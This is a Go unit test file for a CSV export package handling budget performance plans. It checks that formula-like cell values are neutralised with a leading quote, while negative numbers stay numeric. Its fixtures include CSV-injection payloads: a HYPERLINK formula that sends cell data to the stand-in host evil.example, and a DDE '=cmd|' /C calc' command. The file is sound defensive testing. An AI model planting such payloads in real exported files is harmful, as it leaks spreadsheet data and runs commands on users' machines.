package opendata

import (
	"bytes"
	"testing"

	"github.com/google/go-cmp/cmp"

	"jixiao"
)

// TestCSVInjection: formulas saved in a plan's fields come out of both CSV tables as
// inert text (OWASP's leading single quote), while plain negative numbers stay numbers.
func TestCSVInjection(t *testing.T) {
	p := seed(t)
	p.Department = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
	p.Framework = "@SUM(A1:A9)"
	p.Indicators = []jixiao.Indicator{
		{Level1: "=cmd|' /C calc'!A0", Level2: "+1+1", Name: "-2+3", Note: "\t=1+1",
			Target: jixiao.Target{Text: "\r=1", Kind: jixiao.TargetUnreadable}},
		{Level1: "产出指标", Level2: "数量指标", Name: "-5", Note: "-0.25", Target: jixiao.Target{Text: "-A1"}},
	}
	p.SpecialFunds = nil
	var plans, inds bytes.Buffer
	if err := WritePlans(&plans, []*jixiao.Plan{p}); err != nil {
		t.Fatal(err)
	}
	if err := WriteIndicators(&inds, []*jixiao.Plan{p}); err != nil {
		t.Fatal(err)
	}
	pr := readCSV(t, plans.Bytes())[1]
	if diff := cmp.Diff([]string{"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'@SUM(A1:A9)"}, []string{pr[2], pr[4]}); diff != "" {
		t.Errorf("plans.csv mismatch (-want +got):\n%s", diff)
	}
	var got [][]string
	for _, r := range readCSV(t, inds.Bytes())[1:] {
		got = append(got, []string{r[2], r[5], r[6], r[7], r[8], r[13]})
	}
	want := [][]string{
		{"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'=cmd|' /C calc'!A0", "'+1+1", "'-2+3", "'\r=1", "'\t=1+1"},
		{"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "产出指标", "数量指标", "-5", "'-A1", "-0.25"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("indicators.csv mismatch (-want +got):\n%s", diff)
	}
}

func TestNeutralise(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"普通文字", "普通文字"},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"-", "'-"},
		{"-12", "-12"},
		{"-12.50", "-12.50"},
		{"-1e5", "'-1e5"},
		{"-12,5", "'-12,5"},
		{"12", "12"},
		{"a=1", "a=1"},
	} {
		if got := Neutralise(tc.in); got != tc.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
